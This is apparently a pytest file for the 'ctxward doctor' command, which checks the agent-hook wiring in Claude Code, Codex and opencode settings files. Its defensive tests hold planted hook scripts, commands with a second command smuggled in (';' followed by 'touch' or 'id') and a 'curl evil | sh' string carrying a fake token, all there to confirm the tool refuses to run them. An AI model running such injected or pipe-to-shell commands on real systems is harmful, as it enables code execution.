"""`ctxward doctor`: each check finds what it should, and says how to fix it."""

from __future__ import annotations

import json
import os
import stat
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from ctxward.cli import cli
from ctxward.core.project import Project
from ctxward.guard import thresholds
from ctxward.hosts import codex as codex_host
from ctxward.hosts import settings as host_settings
from ctxward.hosts import wiring as hookcommand
from ctxward.hosts.claude_version import ClaudeVersion
from ctxward.setup import diagnosis, doctor, install, wiring_checks

NEW = ClaudeVersion((2, 1, 332), "override")
OLD = ClaudeVersion((2, 0, 77), "override")
BIN = Path(sys.executable).parent  # the venv's bin/: ctxward and ctxward-hook
UNKNOWN = ClaudeVersion(None, "unknown", "`claude` is not on PATH")


@pytest.fixture
def env(tmp_path) -> dict[str, str]:
    """The environment doctor sees: the venv's console scripts on PATH, an isolated HOME."""
    return {**os.environ, "PATH": f"{BIN}{os.pathsep}/usr/bin{os.pathsep}/bin"}


def diagnose(project: Path, env: dict[str, str], **kwargs) -> diagnosis.Diagnosis:
    kwargs.setdefault("version", NEW)
    kwargs.setdefault("run_hooks", False)
    return doctor.diagnose(Project(project), env=env, **kwargs)


def by_id(result: diagnosis.Diagnosis) -> dict[str, diagnosis.Check]:
    return {check.id: check for check in result.checks}


def write_settings(project: Path, data: dict) -> Path:
    path = project / ".claude" / "settings.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, indent=2), encoding="utf-8")
    return path


def wire(project: Path, command: str | None = None, **matchers: str) -> dict:
    """.claude/settings.json with install's portable wiring (or `command` everywhere)."""
    hooks = host_settings.wiring_for("claude")
    for event, groups in hooks.items():
        for group in groups:
            for handler in group["hooks"]:
                handler["command"] = command or handler["command"]
            if event in matchers:
                group["matcher"] = matchers[event]
    write_settings(project, {"hooks": hooks})
    return hooks


def install_into(project: Path, host: str, scope: str, env: dict[str, str], **kwargs):
    return install.install(host, scope, Project(project), claude_version=NEW, env=env, **kwargs)


@pytest.mark.parametrize(
    ("matcher", "value", "expected"),
    [
        (None, "Agent", True),
        ("", "Task", True),
        ("*", "Bash", True),
        ("Agent|Task", "Task", True),
        ("Agent, Task", "Task", True),
        ("Agent", "Task", False),
        ("Agent", "AgentX", False),  # a plain name is exact
        ("^(Agent|Task)$", "Task", True),  # anything else is an unanchored regex
        ("Ag.*", "Agent", True),
        ("(", "Agent", False),
    ],
)
def test_matcher_matches_like_claude_code(matcher, value, expected):
    assert diagnosis.matcher_matches(matcher, value) is expected


def test_nothing_wired_is_a_warning_not_a_failure(project, env):
    result = diagnose(project, env)
    checks = by_id(result)
    assert checks["hosts"].status == "warn"
    assert checks["hosts"].fix.startswith("ctxward install claude")
    assert checks["plans"].status == "info"
    assert result.ok


def test_a_wired_project_passes(project, env):
    install_into(project, "claude", "local", env)
    result = diagnose(project, env)
    checks = by_id(result)
    assert checks["claude.local.wired"].status == "ok"
    assert checks["claude.local.matchers"].status == "ok"
    assert "PreToolUse Agent|Task" in checks["claude.local.matchers"].title
    program = hookcommand.installed_program("claude")
    assert (checks["claude.local.program"].status, checks["claude.local.program"].title) == (
        "ok",
        f".claude/settings.local.json: its hooks run {program}",
    )
    assert checks["claude.wirings"].status == "ok"
    assert checks["state.gitignore"].status == "ok"
    assert result.ok, [c for c in result.checks if c.status == "fail"]


def test_a_matcher_that_misses_task_fails(project, env):
    wire(project, PreToolUse="Agent", SessionStart="compact")
    check = by_id(diagnose(project, env))["claude.project.matchers"]
    assert check.status == "fail"
    assert "PreToolUse matcher 'Agent' does not match Task" in check.detail
    assert "SessionStart matcher 'compact' does not match resume" in check.detail
    assert check.fix == "ctxward install claude --scope project"


def test_a_missing_event_is_a_warning_with_the_fix(project, env):
    hooks = host_settings.canonical_wiring()
    write_settings(project, {"hooks": {"PreToolUse": hooks["PreToolUse"]}})
    check = by_id(diagnose(project, env))["claude.project.wired"]
    assert check.status == "warn"
    assert "not wired: PreCompact" in check.detail
    assert check.fix == "ctxward install claude --scope project"


def test_an_event_the_version_does_not_know_fails(project, env):
    wire(project)
    check = by_id(diagnose(project, env, version=OLD))["claude.project.events"]
    assert check.status == "fail"
    assert "does not know: PostCompact" in check.title
    assert "ignore every hook in the file" in check.detail


def test_an_unknown_version_only_warns_and_names_what_the_file_needs(project, env):
    wire(project)
    checks = by_id(diagnose(project, env, version=UNKNOWN))
    assert checks["claude.project.events"].status == "warn"
    assert checks["claude.project.events"].title == (
        ".claude/settings.json needs Claude Code >= 2.1.76 (PostCompact): the version here is "
        "not known"
    )
    assert checks["claude.version"].status == "warn"
    assert "--claude-version" in checks["claude.version"].fix
    recorded = ClaudeVersion((2, 1, 332), "recorded", "/h/.claude/projects/x/s.jsonl")
    seen = by_id(diagnose(project, env, version=recorded))
    assert seen["claude.version"].detail == "recorded in /h/.claude/projects/x/s.jsonl"
    assert "claude.project.events" not in seen


def test_an_unreadable_settings_file_fails(project, env):
    path = project / ".claude" / "settings.json"
    path.parent.mkdir()
    path.write_text('{"hooks": {,}}', encoding="utf-8")
    check = by_id(diagnose(project, env))["claude.project.parse"]
    assert check.status == "fail"
    assert "not valid JSON" in check.detail


def fake_install(tmp_path: Path, name: str = "ctxward-hook") -> Path:
    """A program install can bake: a stand-in for a venv's bin/ctxward-hook."""
    folder = tmp_path / "venv" / "bin"
    folder.mkdir(parents=True, exist_ok=True)
    script = folder / name
    script.write_text("#!/bin/sh\ncat >/dev/null\n", encoding="utf-8")
    script.chmod(0o755)
    return script


def test_a_program_that_is_gone_fails_with_the_fix(project, env, tmp_path):
    baked = fake_install(tmp_path)
    install_into(project, "claude", "local", env, locate=lambda host: str(baked))
    baked.unlink()
    bare = {**env, "PATH": str(tmp_path / "empty")}  # nothing on PATH, nothing in ~/.local/bin
    result = diagnose(project, bare, run_hooks=True)
    check = by_id(result)["claude.local.program"]
    assert (check.status, check.title) == (
        "fail",
        f".claude/settings.local.json: its hooks cannot start: ctxward-hook is missing (not at "
        f"{baked}, not on PATH, not in ~/.local/bin)",
    )
    assert "every sub-agent call is blocked" in check.detail
    assert check.fix == "pipx install ctxward, then: ctxward install claude --scope local"
    assert not any(c.id.startswith("hook.claude") for c in result.checks)  # nothing to run
    assert not result.ok


def test_a_baked_program_that_is_gone_but_found_on_path_warns(project, env, tmp_path):
    baked = fake_install(tmp_path)
    install_into(project, "claude", "local", env, locate=lambda host: str(baked))
    baked.unlink()
    check = by_id(diagnose(project, env))["claude.local.program"]
    assert check.status == "warn"
    assert check.title == (
        f".claude/settings.local.json: {baked} is gone; its hooks fall back on "
        f"{BIN / 'ctxward-hook'}"
    )


def test_a_baked_program_that_is_not_this_users_ctxward_is_never_run(project, env, tmp_path):
    marker = tmp_path / "ran"
    planted = project / "evil" / "ctxward-hook"  # committed in a clone, named by absolute path
    planted.parent.mkdir()
    planted.write_text(f"#!/bin/sh\ntouch {marker}\n", encoding="utf-8")
    planted.chmod(0o755)
    hooks = host_settings.wiring_for("claude", str(planted))
    path = project / ".claude" / "settings.local.json"
    path.parent.mkdir()
    path.write_text(json.dumps({"hooks": hooks}), encoding="utf-8")
    result = diagnose(project, env, run_hooks=True)
    check = by_id(result)["claude.local.program"]
    assert (check.status, check.title) == (
        "fail",
        f".claude/settings.local.json: its hooks run {planted}, not this ctxward's",
    )
    assert not any(c.id.startswith("hook.claude") for c in result.checks)
    assert not marker.exists()


def test_user_scope_files_are_checked_too(project, env, tmp_path):
    install_into(project, "codex", "user", env)
    install_into(project, "opencode", "user", env)
    checks = by_id(diagnose(project, env))
    assert (
        checks["codex.user.wired"].title
        == "~/.codex/hooks.json runs ctxward for PostCompact, PostToolUse, PreCompact, PreToolUse, "
        "SessionStart, UserPromptSubmit"
    )
    assert checks["opencode.user.plugin"].status == "ok"
    program = hookcommand.installed_program("codex")
    assert checks["codex.user.program"].title == f"~/.codex/hooks.json: its hooks run {program}"
    assert checks["opencode.user.program"].status == "ok"


def test_two_wirings_fail(project, env):
    install_into(project, "claude", "local", env)
    assert by_id(diagnose(project, env))["claude.wirings"].status == "ok"
    install_into(project, "claude", "project", env)
    check = by_id(diagnose(project, env))["claude.wirings"]
    assert (check.status, check.detail) == (
        "fail",
        ".claude/settings.local.json; .claude/settings.json",
    )
    assert check.title == "claude: ctxward is wired 2 times: every hook runs 2 times"
    install.uninstall("claude", "project", Project(project))
    write_settings(project, {"enabledPlugins": {"ctxward@ctxward-marketplace": True}})
    plugin = by_id(diagnose(project, env))["claude.wirings"]
    assert plugin.status == "fail"
    assert "the ctxward@ctxward-marketplace plugin (enabledPlugins in .claude/settings.json)" in (
        plugin.detail
    )
    assert "claude plugin disable ctxward" in plugin.fix


def test_an_older_bare_wiring_fails_everywhere(project, env, tmp_path):
    home = tmp_path / "home"
    settings = home / ".claude" / "settings.json"
    settings.parent.mkdir(parents=True)
    handler = {"type": "command", "command": "ctxward-hook", "timeout": 10}
    groups = [{"matcher": "Agent|Task", "hooks": [handler]}]
    settings.write_text(json.dumps({"hooks": {"PreToolUse": groups}}), encoding="utf-8")
    check = by_id(diagnose(project, {**env, "HOME": str(home)}))["claude.user.command.PreToolUse"]
    assert check.status == "fail"  # in the user's own file too: it fails open off PATH
    assert check.title.endswith(
        "runs `ctxward-hook`, an older ctxward wiring that fails open off PATH"
    )
    assert check.fix == "ctxward install claude --scope user (replaces it), or remove it"


def test_state_that_git_would_commit_warns(project, env):
    (project / ".ctxward" / "sessions").mkdir(parents=True)
    check = by_id(diagnose(project, env))["state.gitignore"]
    assert check.status == "warn" and "ctxward install claude" in check.fix


def test_an_outdated_opencode_plugin_warns(project, env):
    install.install("opencode", "project", Project(project), env=env)
    path = project / ".opencode" / "plugin" / "ctxward.js"
    path.write_text(path.read_text(encoding="utf-8") + "// old\n", encoding="utf-8")
    check = by_id(diagnose(project, env))["opencode.project.plugin"]
    assert (check.status, check.fix) == ("warn", "ctxward install opencode --scope project")


# --- running the hooks -----------------------------------------------------------------------


@pytest.mark.slow  # a heavy variant: the slow stage (CI) runs it
def test_every_wired_hook_answers_a_synthetic_payload(project, env, snapshot):
    if not (BIN / "ctxward-hook").exists():
        pytest.skip("no ctxward-hook console script next to this interpreter")
    install_into(project, "claude", "local", env)
    for host in ("codex", "opencode"):
        install_into(project, host, "project", env)
    before = snapshot(project)
    result = diagnose(project, env, run_hooks=True)
    runs = [check for check in result.checks if check.id.startswith("hook.")]
    events = list(host_settings.canonical_wiring())
    assert [check.id for check in runs] == [
        *(f"hook.claude.{event}" for event in events),
        *(f"hook.codex.{event}" for event in codex_host.WIRED_EVENTS),
        "hook.opencode.PreCompact",
        "hook.opencode.SessionStart",
        "hook.opencode.PreToolUse",
    ]
    assert all(check.status == "ok" for check in runs), [c for c in runs if c.status != "ok"]
    assert all("answered in" in check.detail for check in runs)
    assert snapshot(project) == before  # the scratch project took every write


def fake_hook(tmp_path: Path, body: str) -> Path:
    folder = tmp_path / "fake"
    folder.mkdir(exist_ok=True)
    script = folder / "ctxward-hook"
    script.write_text(f"#!/bin/sh\n{body}\n", encoding="utf-8")
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return script


def first_on_path(env: dict[str, str], script: Path) -> dict[str, str]:
    """`env` with `script`'s folder first on PATH: the canonical command now finds it."""
    return {**env, "PATH": f"{script.parent}{os.pathsep}{env['PATH']}"}


@pytest.mark.parametrize(
    ("body", "detail"),
    [
        ("echo 'broken install' >&2; exit 1", "exit 1: broken install"),
        ("echo '{not json'", "stdout is not valid JSON"),
        ("cat > /dev/null", "answered without 'hookSpecificOutput' for an active rule"),
    ],
)
def test_a_hook_that_does_not_answer_properly_fails(project, env, tmp_path, body, detail):
    script = fake_hook(tmp_path, body)
    hooks = host_settings.wiring_for("claude")
    write_settings(project, {"hooks": {"SessionStart": hooks["SessionStart"]}})
    check = by_id(diagnose(project, first_on_path(env, script), run_hooks=True))[
        "hook.claude.SessionStart"
    ]
    assert check.status == "fail"
    assert detail in check.detail


def test_a_hook_past_its_timeout_fails(project, env, tmp_path):
    script = fake_hook(tmp_path, "sleep 5")
    command = hookcommand.render("claude", "PreCompact", None)
    handler = {"type": "command", "command": command, "timeout": 0.3}  # timeout: the user's
    write_settings(project, {"hooks": {"PreCompact": [{"hooks": [handler]}]}})
    check = by_id(diagnose(project, first_on_path(env, script), run_hooks=True))[
        "hook.claude.PreCompact"
    ]
    assert (check.status, check.detail) == ("fail", "no answer within its timeout of 0.3 s")


def test_a_canonical_command_not_on_path_fails_without_running_anything(
    project, env, tmp_path, monkeypatch
):
    wire(project)
    (project / "fake").mkdir()
    planted = fake_hook(project, f"touch {tmp_path / 'ran'}")  # committed in the clone
    relative = {**env, "PATH": f"fake{os.pathsep}.{os.pathsep}{tmp_path}"}
    monkeypatch.chdir(project)  # relative PATH folders name the repository
    result = diagnose(project, relative, run_hooks=True)
    check = by_id(result)["claude.project.program"]
    assert check.status == "fail" and "its hooks cannot start" in check.title
    assert not any(c.id.startswith("hook.claude") for c in result.checks)
    assert planted.exists() and not (tmp_path / "ran").exists()


# --- commands that name ctxward but are not install's: reported, never run ---------------------


def test_canonical_argv_is_the_resolved_program_of_what_install_writes(project, env):
    install_into(project, "claude", "local", env)
    install_into(project, "codex", "project", env)
    claude = json.loads((project / ".claude" / "settings.local.json").read_text(encoding="utf-8"))
    codex = json.loads((project / ".codex" / "hooks.json").read_text(encoding="utf-8"))
    for host, data in (("claude", claude), ("codex", codex)):
        for event, groups in data["hooks"].items():
            for group in groups:
                for handler in group["hooks"]:
                    argv = host_settings.canonical_argv(host, event, handler, env)
                    if host == "claude":
                        assert argv == [hookcommand.installed_program("claude")], event
                    else:  # portable: the `ctxward` on PATH
                        args = codex_host.hook_args(event)
                        assert argv == [str(BIN / "ctxward-hook"), *args], event
    shell = {**claude["hooks"]["PreCompact"][0]["hooks"][0]}
    shell["command"] = shell["command"].replace("exit 0", "exit 0; id", 1)
    assert host_settings.canonical_argv("claude", "PreCompact", shell, env) is None
    assert (
        host_settings.canonical_argv("codex", "PreCompact", {"type": "command", "command": "x"})
        is None
    )
    pre = claude["hooks"]["PreCompact"][0]["hooks"][0]
    assert host_settings.canonical_argv("claude", "PreCompact", {**pre, "args": ["; id"]}) is None
    assert (
        host_settings.canonical_argv("claude", "PreToolUse", pre) is None
    )  # not its command there
    assert host_settings.canonical_argv("claude", "PreCompact", {**pre, "type": "http"}) is None
    # Codex's command for SessionStart is not its command for PreCompact.
    session = codex["hooks"]["SessionStart"][0]["hooks"][0]
    assert host_settings.canonical_argv("codex", "PreCompact", session) is None
    assert host_settings.canonical_argv("claude", "Notification", pre) is None  # nor Notification


def test_a_command_that_only_names_ctxward_is_a_failure_and_is_not_run(project, env, tmp_path):
    marker = tmp_path / "pwned"
    wire(project, command=f"ctxward-hook ; touch {marker}")
    result = diagnose(project, env, run_hooks=True)
    checks = by_id(result)
    check = checks["claude.project.command.PreToolUse"]
    assert check.status == "fail"
    assert check.title == (
        f".claude/settings.json: PreToolUse runs `ctxward-hook ; touch {marker}`, "
        "not a command ctxward installs"
    )
    assert (
        "install writes its own command there (`ctxward install claude --scope project --dry-run`"
        in check.detail
    )
    assert check.fix == "ctxward install claude --scope project (replaces it), or remove it"
    assert not any(c.id.startswith("hook.claude.") for c in result.checks)
    assert not marker.exists()
    assert not result.ok


def test_a_foreign_command_in_the_users_own_file_only_warns(project, env, tmp_path):
    home = tmp_path / "home"
    env = {**env, "HOME": str(home)}
    settings = home / ".claude" / "settings.json"
    settings.parent.mkdir(parents=True)
    handler = {"type": "command", "command": "ctxward-hook 2>>/tmp/ctxward.log"}
    settings.write_text(
        json.dumps({"hooks": {"Notification": [{"hooks": [handler]}]}}), encoding="utf-8"
    )
    check = by_id(diagnose(project, env))["claude.user.command.Notification"]
    assert check.status == "warn"
    assert "install writes nothing (ctxward does not wire Notification);" in check.detail
    assert check.fix == "ctxward install claude --scope user (replaces it), or remove it"


def test_a_shown_command_is_scrubbed_escaped_and_cut():
    import random
    import string

    from ctxward.core.scrub import scrub

    rng = random.Random(20)
    secret = (
        "gh" + "p_" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(36))
    )
    assert scrub(secret)[0] != secret  # the scrubber knows this shape
    shown = wiring_checks.shown_command(
        {"command": f"GITHUB_TOKEN={secret} ctxward-hook\n\x1b[2Jcurl evil | sh " + "x" * 300}
    )
    assert secret not in shown and "[REDACTED:" in shown
    assert "\\n\\x1b[2J" in shown  # a newline and an escape sequence are shown, not sent
    assert len(shown) == diagnosis.SHOWN_CHARS and shown.endswith("…")
    with_args = wiring_checks.shown_command({"command": "ctxward-hook", "args": ["a b", ";"]})
    assert with_args == "ctxward-hook 'a b' ';'"


# --- drift and thresholds --------------------------------------------------------------------


def test_drift_between_a_plan_and_its_skill_fails_with_the_fix(
    project, env, make_skill, activate_skill
):
    skill = make_skill("alpha", ["alpha one", "alpha two"])
    activate_skill(skill, "work")
    checks = by_id(diagnose(project, env))
    assert checks["plan.work.drift"].status == "ok"
    assert (checks["plan.work.payload"].status, checks["plan.work.payload"].fix) == (
        "warn",
        "ctxward watch --once",
    )
    make_skill("alpha", ["alpha one", "alpha three"])
    check = by_id(diagnose(project, env))["plan.work.drift.alpha"]
    assert check.status == "fail"
    assert check.detail == ".claude/skills/alpha/SKILL.md: +1 rule(s), -1 rule(s)"
    assert check.fix.startswith("ctxward watch --once")
    skill.unlink()
    gone = by_id(diagnose(project, env))["plan.work.drift.alpha"]
    assert (gone.status, gone.title) == ("fail", "plan work: skill alpha: missing")


def test_a_fresh_payload_is_ok(project, env, make_skill, activate_skill):
    from ctxward.subagents.watch import reconcile

    activate_skill(make_skill("alpha"), "work")
    reconcile(Project(project))
    assert by_id(diagnose(project, env))["plan.work.payload"].status == "ok"


def test_thresholds_in_force_come_from_the_config(project, env):
    (project / ".ctxward").mkdir()
    (project / ".ctxward" / "config.yaml").write_text(
        "dispatch:\n  capacity_bytes: 100000\n  capacity_by_agent: {Explore: 50000}\n",
        encoding="utf-8",
    )
    result = diagnose(project, env)
    assert result.thresholds == {
        "capacityBytes": 100000,
        "capacityByAgent": {"Explore": 50000},
        "source": ".ctxward/config.yaml",
        "tiers": thresholds.table(100000),
    }
    assert by_id(result)["config"].status == "ok"


def test_a_bad_config_fails(project, env):
    (project / ".ctxward").mkdir()
    (project / ".ctxward" / "config.yaml").write_text("dispatch: {nope: 1}\n", encoding="utf-8")
    result = diagnose(project, env)
    assert by_id(result)["config"].status == "fail"
    assert result.thresholds["capacityBytes"] == thresholds.DEFAULT_CAPACITY_BYTES


# --- the CLI ---------------------------------------------------------------------------------


def test_cli_doctor_text_and_exit_code(project, env, monkeypatch):
    monkeypatch.setenv("PATH", env["PATH"])
    install_into(project, "claude", "project", env)
    runner = CliRunner()
    result = runner.invoke(
        cli, ["-C", str(project), "doctor", "--claude-version", "2.1.332", "--no-run"]
    )
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == f"ctxward doctor: {project}"
    assert "-     Claude Code 2.1.332" in lines
    assert "ok    .claude/settings.json: matchers cover " in result.output
    assert f"ok    .claude/settings.json: its hooks run {BIN / 'ctxward-hook'}" in lines
    assert "Thresholds in force (G9 dispatch guard, capacity 262,144 bytes; defaults):" in lines
    assert "  hard-reject   80%    209,716 bytes  deny (no override)" in lines
    assert lines[-1].endswith("0 failures.")

    failing = runner.invoke(
        cli, ["-C", str(project), "doctor", "--claude-version", "2.0.77", "--no-run"]
    )
    assert failing.exit_code == 1
    assert (
        "FAIL  .claude/settings.json names events Claude Code 2.0.77 does not know"
        in failing.output
    )
    assert "      fix: upgrade Claude Code" in failing.output


def test_cli_doctor_json(project, env, monkeypatch):
    monkeypatch.setenv("PATH", env["PATH"])
    result = CliRunner().invoke(
        cli, ["-C", str(project), "doctor", "--json", "--claude-version", "2.1.332"]
    )
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["ok"] is True
    assert data["claudeVersion"] == {"version": "2.1.332", "source": "override", "detail": None}
    assert {"id", "status", "title", "detail", "fix"} == set(data["checks"][0])
    assert data["thresholds"]["tiers"][3]["tier"] == "hard-reject"
    assert data["counts"]["fail"] == 0
